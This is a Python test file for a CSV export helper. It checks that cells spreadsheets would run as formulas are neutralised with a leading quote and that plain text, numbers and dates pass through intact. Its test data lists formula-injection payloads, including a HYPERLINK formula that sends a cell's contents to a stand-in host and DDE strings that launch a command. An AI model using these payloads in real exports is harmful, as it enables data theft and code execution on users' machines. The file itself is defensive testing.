"""An exported cell never runs in a spreadsheet, and a harmless one stays as it is."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from console.csv_out import BOM, cell, lines

RUNS = (
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\ufeff=1", "＝1", "＋1", "－1", "＠A",
    '=HYPERLINK("http://evil.test?"&A1)', "=cmd|' /C calc'!A0", "@", "-2+3+cmd|' /C calc'!D2",
)  # fmt: skip


def read(text: str) -> list[list[str]]:
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text.removeprefix(BOM), newline="")))


@pytest.mark.parametrize("evil", RUNS)
def test_what_a_spreadsheet_would_run_is_text(evil: str) -> None:
    assert cell(evil) == f"'{evil}"


@pytest.mark.parametrize("plain", ["", "a=b", "สวัสดีค่ะ", "chị = em", "1,990 บาท", "'quoted", "2026-11-25"])
def test_what_runs_nowhere_stays(plain: str) -> None:
    assert cell(plain) == plain


def test_numbers_stay_numbers_and_times_carry_their_zone() -> None:
    assert (cell(-3), cell(0.5), cell(None), cell(value=True)) == ("-3", "0.5", "", "true")
    assert cell(datetime(2026, 11, 25, 12, tzinfo=UTC)) == "2026-11-25T12:00:00+00:00"


@given(st.lists(st.lists(st.text(), min_size=2, max_size=2), max_size=5))
def test_no_text_at_all_begins_a_cell_that_runs_and_none_is_lost(rows: list[list[str]]) -> None:
    found = read("".join(lines(["a", "b"], rows)))
    assert found[0] == ["a", "b"]
    for given_row, read_row in zip(rows, found[1:], strict=True):
        for value, shown in zip(given_row, read_row, strict=True):
            assert shown.lstrip(" \u00a0\ufeff")[:1] not in set("=+-@\t\r\n＝＋－＠")
            assert shown.removeprefix("'") == value.replace("\x00", "").removeprefix("'")
